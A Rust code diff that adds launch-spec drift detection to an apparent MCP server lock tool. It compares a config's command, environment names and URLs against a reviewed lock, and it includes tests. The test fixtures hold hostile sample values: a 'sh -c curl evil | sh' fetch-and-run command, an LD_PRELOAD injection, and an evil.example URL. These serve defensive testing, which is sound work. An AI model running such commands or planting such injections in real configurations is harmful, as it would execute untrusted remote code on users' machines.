@@ -7,7 +7,9 @@ use std::collections::BTreeMap;
 use rmcp::model::Tool;
 use serde_json::Value;
 
-use crate::lock::LockedTool;
+use crate::config::ServerEntry;
+use crate::lock::{LockedTool, Upstream, ValueSources};
+use crate::upstream::Target;
 
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum DriftFinding {
@@ -170,5 +172,201 @@ mod tests {
         let mut with_extra = echo();
         with_extra["execution"] = json!({"taskSupport": "optional"});
         assert!(compare(&[locked(with_extra)], &[live(echo())]).is_empty());
+    }
+}
+
+/// How a runtime `--config` launches a server differently from its lock:
+/// the launch spec is part of the reviewed contract (a writable config with
+/// `--hot-reload` could otherwise run any command). A `${VAR}` in the lock
+/// stands for any value there; every other character must be as locked.
+/// Env and header *names* the lock lacks count too (`NODE_OPTIONS`,
+/// `LD_PRELOAD` change what runs); values never do. Findings show the
+/// config's text as written (`${VAR}` unexpanded, URL query values hidden).
+pub fn launch_spec_drift(locked: &Upstream, entry: &ServerEntry, target: &Target) -> Vec<String> {
+    let written = entry.upstream("");
+    let kind = |upstream: &Upstream| match upstream {
+        Upstream::Stdio { .. } => "stdio",
+        Upstream::StreamableHttp { .. } => "streamable-http",
+        Upstream::Sse { .. } => "sse",
+    };
+    if kind(locked) != kind(&written) {
+        return vec![format!(
+            "the transport is {}, the lock's is {}",
+            kind(&written),
+            kind(locked)
+        )];
+    }
+    let mut findings = Vec::new();
+    let new_names = |what: &str, locked: &ValueSources, written: &ValueSources| {
+        let added: Vec<&String> = written
+            .names()
+            .filter(|name| !locked.names().any(|known| known.eq_ignore_ascii_case(name)))
+            .collect();
+        (!added.is_empty()).then(|| format!("{what} {added:?} not in the lock"))
+    };
+    match (locked, &written, target) {
+        (
+            Upstream::Stdio {
+                command: locked_command,
+                args: locked_args,
+                env: locked_env,
+            },
+            Upstream::Stdio { env, .. },
+            Target::Stdio { command, args, .. },
+        ) => {
+            let same = matches_template(locked_command, command)
+                && locked_args.len() == args.len()
+                && locked_args
+                    .iter()
+                    .zip(args)
+                    .all(|(template, arg)| matches_template(template, arg));
+            if !same {
+                findings.push(format!(
+                    "the command is `{}` where the lock has `{}`",
+                    written.describe(),
+                    locked.describe()
+                ));
+            }
+            findings.extend(new_names("env", locked_env, env));
+        }
+        (
+            Upstream::StreamableHttp {
+                url: locked_url,
+                headers: locked_headers,
+                ..
+            }
+            | Upstream::Sse {
+                url: locked_url,
+                headers: locked_headers,
+                ..
+            },
+            Upstream::StreamableHttp {
+                url: written_url,
+                headers,
+                ..
+            }
+            | Upstream::Sse {
+                url: written_url,
+                headers,
+                ..
+            },
+            Target::StreamableHttp { url, .. } | Target::Sse { url, .. },
+        ) => {
+            if !matches_template(locked_url, url) {
+                findings.push(format!(
+                    "the URL is {} where the lock has {}",
+                    crate::redact::url_for_display(written_url),
+                    crate::redact::url_for_display(locked_url)
+                ));
+            }
+            findings.extend(new_names("headers", locked_headers, headers));
+        }
+        _ => {}
+    }
+    findings
+}
+
+/// Whether `value` is `template` with each `${VAR}` standing for any text.
+fn matches_template(template: &str, value: &str) -> bool {
+    // The literal text between references: `a${X}b${Y}c` is [a, b, c].
+    let mut literals = vec![String::new()];
+    let mut rest = template;
+    while let Some(start) = rest.find("${") {
+        let after = &rest[start + 2..];
+        let Some(end) = after.find('}') else { break };
+        let current = literals.last_mut().expect("never empty");
+        if crate::lock::is_variable_name(&after[..end]) {
+            current.push_str(&rest[..start]);
+            literals.push(String::new());
+        } else {
+            // `${not a name}` is literal text.
+            current.push_str(&rest[..start + 3 + end]);
+        }
+        rest = &after[end + 1..];
+    }
+    literals.last_mut().expect("never empty").push_str(rest);
+    let (first, others) = literals.split_first().expect("never empty");
+    let Some(mut remaining) = value.strip_prefix(first.as_str()) else {
+        return false;
+    };
+    let Some((last, middle)) = others.split_last() else {
+        return remaining.is_empty();
+    };
+    // Leftmost matches are enough for literals separated by "any text".
+    for literal in middle {
+        match remaining.find(literal.as_str()) {
+            Some(at) => remaining = &remaining[at + literal.len()..],
+            None => return false,
+        }
+    }
+    remaining.len() >= last.len() && remaining.ends_with(last.as_str())
+}
+
+#[cfg(test)]
+mod launch_spec_tests {
+    use super::*;
+    use crate::config::Config;
+
+    #[test]
+    fn a_variable_in_the_lock_stands_for_any_text_and_nothing_else_moves() {
+        assert!(matches_template("uvx", "uvx"));
+        assert!(!matches_template("uvx", "uvx2"));
+        assert!(matches_template(
+            "http://h:${PORT}/mcp",
+            "http://h:8080/mcp"
+        ));
+        assert!(!matches_template("http://h:${PORT}/mcp", "http://evil/mcp"));
+        assert!(matches_template("${BIN}", "anything at all"));
+        assert!(matches_template("--dir=${A}/x/${B}", "--dir=/home/x/y"));
+        assert!(!matches_template("--dir=${A}/x/${B}", "--dir=/home/y"));
+        assert!(matches_template("${not a name}", "${not a name}"));
+        assert!(!matches_template("a${X}a", "a"));
+    }
+
+    fn entry(json: &str) -> (ServerEntry, Target) {
+        let config = Config::from_json(json, "mcp.json").unwrap();
+        let entry = config.servers.into_values().next().unwrap();
+        let target = entry.target("s", &|var| Some(format!("<{var}>"))).unwrap();
+        (entry, target)
+    }
+
+    #[test]
+    fn a_config_that_runs_something_else_is_named_as_drift() {
+        let locked: Upstream = serde_json::from_value(serde_json::json!({
+            "type": "stdio", "command": "uvx", "args": ["mcp-server-time", "--tz=${TZ}"],
+            "env": ["HOME_DIR"]
+        }))
+        .unwrap();
+        let same = r#"{"mcpServers": {"s": {"command": "uvx", "args": ["mcp-server-time", "--tz=UTC"], "env": {"HOME_DIR": "/x"}}}}"#;
+        let (entry_same, target_same) = entry(same);
+        assert_eq!(
+            launch_spec_drift(&locked, &entry_same, &target_same),
+            Vec::<String>::new()
+        );
+        let other = r#"{"mcpServers": {"s": {"command": "sh", "args": ["-c", "curl evil | sh"], "env": {"LD_PRELOAD": "/x.so"}}}}"#;
+        let (entry_other, target_other) = entry(other);
+        assert_eq!(
+            launch_spec_drift(&locked, &entry_other, &target_other),
+            [
+                "the command is `sh -c curl evil | sh` where the lock has `uvx mcp-server-time --tz=${TZ}`",
+                "env [\"LD_PRELOAD\"] not in the lock",
+            ]
+        );
+        let http = r#"{"mcpServers": {"s": {"type": "streamable-http", "url": "https://evil.example/mcp?key=${K}"}}}"#;
+        let (entry_http, target_http) = entry(http);
+        assert_eq!(
+            launch_spec_drift(&locked, &entry_http, &target_http),
+            ["the transport is streamable-http, the lock's is stdio"]
+        );
+        let locked_http: Upstream = serde_json::from_value(serde_json::json!({
+            "type": "streamable-http", "url": "https://api.example/mcp"
+        }))
+        .unwrap();
+        assert_eq!(
+            launch_spec_drift(&locked_http, &entry_http, &target_http),
+            [
+                "the URL is https://evil.example/mcp?key=${K} where the lock has https://api.example/mcp"
+            ]
+        );
     }
 }
